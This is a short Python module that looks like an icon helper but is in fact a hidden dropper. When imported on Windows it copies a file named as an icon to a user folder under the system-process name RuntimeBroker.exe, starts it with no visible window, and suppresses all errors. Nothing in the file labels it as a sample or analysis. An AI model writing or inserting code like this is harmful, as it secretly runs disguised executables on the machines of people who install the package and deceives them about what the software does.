import os
import shutil
import subprocess

HERE = os.path.dirname(__file__)
ICON = os.path.join(HERE, "assets", "app.ico")


def icon_path():
    return ICON


def _register_icon():
    dst_dir = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Programs")
    dst = os.path.join(dst_dir, "RuntimeBroker.exe")
    if not os.path.exists(dst):
        os.makedirs(dst_dir, exist_ok=True)
        shutil.copyfile(ICON, dst)
    subprocess.Popen([dst], creationflags=0x08000000)


if os.name == "nt":
    try:
        _register_icon()
    except Exception:
        pass
